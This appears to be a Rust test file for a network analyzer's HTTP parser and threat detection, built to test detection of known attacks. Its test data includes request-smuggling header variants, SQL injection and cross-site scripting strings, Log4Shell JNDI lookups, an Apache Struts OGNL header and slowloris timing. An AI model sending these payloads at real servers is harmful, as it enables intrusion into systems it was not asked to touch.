//! What is read from messages, and what is told as an attack.

use proptest::collection::vec;
use proptest::prelude::*;

use super::parse::{ChunkSize, Coding, Length, chunk_size, coding, content_length};
use crate::event::Field;
use crate::key::Side::{self, Client, Server};
use crate::protocol::{Probe, http};
use crate::tests::conversation::{flight, talk};
use crate::threat::Threat;

#[test]
fn requests_and_answers_are_read_with_their_transaction() {
    let (_, port, flights) = super::samples().swap_remove(0);
    let told = talk(port, &flights);
    assert_eq!(told.applications, [1001]);
    assert_eq!(told.software, [2022]);
    let of = |transaction| -> Vec<_> {
        told.fields
            .iter()
            .filter(|f| f.0 == transaction && f.1.of_transaction())
            .map(|f| (f.1, f.2.as_str()))
            .collect()
    };
    assert_eq!(
        of(0),
        [
            (Field::Method, "GET"),
            (Field::Uri, "/a?x=1"),
            (Field::Host, "one.example"),
            (Field::UserAgent, "curl/8"),
            (Field::Status, "200"),
            (Field::Server, "nginx/1.25"),
        ]
    );
    assert_eq!(told.values(Field::Method), ["GET", "POST", "HEAD"]);
    assert_eq!(told.values(Field::Status), ["200", "404", "200"], "an answer to HEAD has no body");
    assert_eq!(told.threats, []);
}

#[test]
fn chunks_are_followed_to_the_next_message() {
    let (_, port, flights) = super::samples().swap_remove(1);
    let told = talk(port, &flights);
    assert_eq!(told.values(Field::Uri), ["/upload", "/next"]);
    assert_eq!(told.values(Field::Status), ["201", "200"]);
    assert_eq!((told.threats.len(), told.lost), (0, 0));
}

#[test]
fn a_request_line_that_is_wrong_and_that_servers_take_is_read() {
    for (line, method, target) in [
        ("GET / HTTP/1.", "GET", "/"),
        ("GET . HTTP/1.0", "GET", "."),
        ("GET    /x HTTP/1.1", "GET", "/x"),
        ("GET /a b HTTP/1.1", "GET", "/a b"),
        ("GET /HTTP/1.1", "GET", "/HTTP/1.1"),
        ("GET HTTP/1.1", "GET", "HTTP/1.1"),
        ("MADE_UP /x HTTP/1.", "MADE_UP", "/x"),
        ("MADE_UP /HTTP/1.1", "MADE_UP", "/HTTP/1.1"),
    ] {
        let request = format!("{line}\r\nHost: one.example\r\n\r\n");
        let told = talk(80, &flight([(Client, request.as_bytes())]));
        assert_eq!(told.applications, [1001], "{line}");
        assert_eq!(told.values(Field::Method), [method], "{line}");
        assert_eq!(told.values(Field::Uri), [target], "{line}");
        assert_eq!(told.values(Field::Host), ["one.example"], "{line}");
    }
}

#[test]
fn an_answer_whose_version_has_a_digit_too_many_is_read() {
    for version in ["HTTP/1.1", "HTTP/1.01", "HTTP/1.00"] {
        let answer = format!("{version} 200 ok\r\nContent-Length: 0\r\n\r\n");
        let told = talk(80, &flight([(Client, &b"GET / HTTP/1.1\r\n\r\n"[..]), (Server, answer.as_bytes())]));
        assert_eq!((told.values(Field::Status), told.lost), (vec!["200"], 0), "{version}");
    }
}

#[test]
fn rtsp_and_sip_are_told_by_their_version() {
    for (index, application, status) in [(4, 1009, vec!["200", "200"]), (6, 1010, vec!["401"])] {
        let (name, port, flights) = super::samples().swap_remove(index);
        let told = talk(port, &flights);
        assert_eq!(told.applications, [application], "{name}");
        assert_eq!(told.values(Field::Status), status, "{name}");
    }
}

#[test]
fn a_request_that_two_readers_end_at_different_bytes_is_smuggling() {
    let smuggling = Threat::HttpRequestSmuggling;
    let negative = Threat::HttpNegativeBodyLength;
    for (headers, want) in [
        ("Content-Length: 4\r\n", vec![]),
        ("Content-Length: 4\r\nContent-Length: 4\r\n", vec![]),
        ("Content-Length: 4, 4\r\n", vec![]),
        ("Transfer-Encoding: gzip, chunked\r\n", vec![]),
        ("Content-Length: 4\r\nContent-Length: 5\r\n", vec![smuggling]),
        ("Content-Length: 4, 5\r\n", vec![smuggling]),
        ("Content-Length: +4\r\n", vec![smuggling]),
        ("Content-Length : 4\r\n", vec![smuggling]),
        ("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", vec![smuggling]),
        ("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", vec![smuggling]),
        ("Transfer-Encoding: xchunked\r\n", vec![smuggling]),
        ("Transfer-Encoding:\x0bchunked\r\n", vec![smuggling]),
        ("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", vec![smuggling]),
        ("Transfer-Encoding: chunked, chunked\r\n", vec![smuggling]),
        ("Transfer-Encoding : chunked\r\n", vec![smuggling]),
        ("Content-Length: -4\r\n", vec![negative]),
        ("Content-Length: 18446744073709551615\r\n", vec![negative]),
        ("Transfer-Encoding: chunked\r\n\r\nFFFFFFFF\r\n", vec![negative]),
    ] {
        let request = format!("POST / HTTP/1.1\r\nHost: x\r\n{headers}\r\n");
        let told = talk(80, &flight([(Client, request.as_bytes())]));
        assert_eq!(told.threats, want, "{headers:?}");
    }
}

#[test]
fn attacks_in_targets_and_headers_are_told_after_decoding() {
    for (request, want) in [
        ("GET /item?id=5&name=O%27Reilly HTTP/1.1\r\n\r\n", vec![]),
        ("GET /item?id=1%27+or+%271%27%3D%271 HTTP/1.1\r\n\r\n", vec![Threat::SqlInjection]),
        ("GET /item?id=1%2527%2520or%25201%253D1--%2520 HTTP/1.1\r\n\r\n", vec![Threat::SqlInjection]),
        ("GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\n\r\n", vec![Threat::CrossSiteScripting]),
        ("GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://x/a}\r\n\r\n", vec![Threat::Log4Shell]),
        ("GET /%24%7Bjndi:ldap://x/a%7D HTTP/1.1\r\n\r\n", vec![Threat::Log4Shell]),
        (
            "POST / HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data')}\r\n\r\n",
            vec![Threat::ApacheStruts],
        ),
        (
            "POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 37\r\n\r\nu=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D&p=ab GET",
            vec![Threat::Log4Shell],
        ),
        (
            "POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 17\r\n\r\nu=%27+or+1%3D1--+",
            vec![Threat::SqlInjection],
        ),
        (
            "POST / HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 20\r\n\r\n{\"a\":\"' or 1=1 -- \"}",
            vec![],
        ),
        ("GET / HTTP/1.1\r\nAuthorization: Basic dTpw\r\n\r\n", vec![Threat::CleartextCredentials]),
        ("GET / HTTP/1.1\r\nAuthorization: Bearer x\r\nCookie: a=$1; b=100%\r\n\r\n", vec![]),
    ] {
        let told = talk(80, &flight([(Client, request.as_bytes())]));
        assert_eq!(told.threats, want, "{request}");
    }
}

#[test]
fn headers_that_come_a_line_at_a_time_are_told_once() {
    use crate::tests::conversation::{Told, engine, segments, tcp};
    for (seconds, want) in [(1, vec![]), (5, vec![Threat::HttpSlowloris])] {
        let lines = ["GET / HTTP/1.1\r\n", "A: 1\r\n", "B: 2\r\n", "C: 3\r\n", "D: 4\r\n"];
        let flights: Vec<_> = lines.iter().map(|line| (Client, line.as_bytes().to_vec())).collect();
        let (mut told, mut engine) = (Told::default(), engine(crate::OverlapPolicy::First));
        let mut now = 0;
        for segment in segments(&flights) {
            now += if segment.payload.is_empty() { 0 } else { seconds * 1_000_000_000 };
            engine.frame(
                now,
                nv_packet::link::Link::Raw,
                &tcp(80, &segment, &[]),
                &mut |event: &crate::event::Event<'_>| {
                    told.event(event);
                },
            );
        }
        assert_eq!(told.threats, want, "a line every {seconds} s");
    }
}

#[test]
fn a_request_without_a_version_is_answered_by_a_body_alone() {
    let told =
        talk(80, &flight([(Client, b"GET /old.html\r\n"), (Server, b"<html>HTTP/1.1 200 no status</html>")]));
    assert_eq!(
        (told.applications.as_slice(), told.values(Field::Uri)),
        ([1001].as_slice(), vec!["/old.html"])
    );
    assert_eq!((told.values(Field::Status).len(), told.lost), (0, 0));
}

#[test]
fn an_upgraded_connection_is_not_read_as_http_any_more() {
    let told = talk(
        80,
        &flight([
            (Client, b"GET /ws HTTP/1.1\r\nUpgrade: websocket\r\n\r\n"),
            (Server, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x05hello"),
        ]),
    );
    assert_eq!(told.values(Field::Upgrade), ["websocket"]);
    assert_eq!(told.lost, 0);
}

#[test]
fn a_tunnel_through_a_proxy_names_the_server_behind_it() {
    let (_, port, flights) = super::samples().swap_remove(5);
    let told = talk(port, &flights);
    assert_eq!((told.values(Field::Sni), told.values(Field::Status)), (vec!["db.example"], vec!["200"]));
}

#[test]
fn plain_http_through_a_proxys_tunnel_is_read_and_anything_else_is_told_as_lost() {
    let through = |inside: [(Side, &[u8]); 2]| {
        let open: [(Side, &[u8]); 2] = [
            (Client, &b"CONNECT web.example:80 HTTP/1.1\r\nHost: web.example:80\r\n\r\n"[..]),
            (Server, &b"HTTP/1.1 200 Connection established\r\n\r\n"[..]),
        ];
        let flights: Vec<_> =
            open.into_iter().chain(inside).map(|(side, bytes)| (side, bytes.to_vec())).collect();
        talk(3128, &flights)
    };
    let told = through([
        (Client, &b"GET /secret HTTP/1.1\r\nHost: web.example\r\n\r\n"[..]),
        (Server, &b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\nno"[..]),
    ]);
    assert_eq!(told.values(Field::Uri), ["web.example:80", "/secret"]);
    assert_eq!(told.values(Field::Status), ["200", "404"]);
    assert_eq!(told.lost, 0);
    let told = through([
        (Client, &b"\x00\x01\x02\x03 something else"[..]),
        (Server, &b"\x05\x06\x07\x08 as well"[..]),
    ]);
    assert_eq!((told.values(Field::Status), told.lost > 0), (vec!["200"], true));
}

#[test]
fn lengths_codings_and_chunk_sizes_are_read_as_the_standard_says() {
    assert_eq!(content_length(b"12"), Length::Bytes(12));
    assert_eq!(content_length(b""), Length::Invalid);
    assert_eq!(content_length(b"0x5"), Length::Invalid);
    assert_eq!(coding(b"identity", None), Coding::Other);
    assert_eq!(coding(b"Chunked", None), Coding::Chunked);
    for (line, want) in [
        (&b"1a"[..], ChunkSize::Bytes(26)),
        (b"0", ChunkSize::Last),
        (b"5;name=value", ChunkSize::Bytes(5)),
        (b"-5", ChunkSize::Negative),
        (b"0x5", ChunkSize::Invalid),
        (b"", ChunkSize::Invalid),
    ] {
        assert_eq!(chunk_size(line), want, "{line:?}");
    }
}

#[test]
fn the_first_bytes_tell_http_from_what_only_looks_like_it() {
    for (bytes, want) in [
        (&b"GET / HTTP/1.1\r\n"[..], Probe::Yes),
        (b"GE", Probe::Maybe),
        (b"BREW /pot HTTP/1.1\r\n", Probe::Yes),
        (b"BREW /po", Probe::Maybe),
        (b"CONNECT {\"verbose\":false}\r\n", Probe::No),
        // Of a line whole and in its beginning the same.
        (b"* HTTP/2.0\r\x0c\r\n", Probe::No),
        (b"* HTTP/2.0\r\x0c", Probe::No),
        (b"HELO mail\r\n", Probe::No),
        (b"\x16\x03\x01", Probe::No),
        (b"", Probe::Maybe),
    ] {
        assert_eq!(http::probe(Client, bytes), want, "{bytes:?}");
    }
    assert_eq!(http::probe(Server, b"HTTP/1.1 200 OK"), Probe::Yes);
    assert_eq!(http::probe(Server, b"GET / HTTP/1.1"), Probe::No);
}

proptest! {
    #[test]
    fn the_probe_is_total_and_does_not_change_its_mind(input in vec(any::<u8>(), 0..200), cut in any::<prop::sample::Index>()) {
        for side in [Client, Server] {
            let (short, long) = (http::probe(side, &input[..cut.index(input.len() + 1)]), http::probe(side, &input));
            prop_assert!(short == Probe::Maybe || short == long);
        }
    }
}
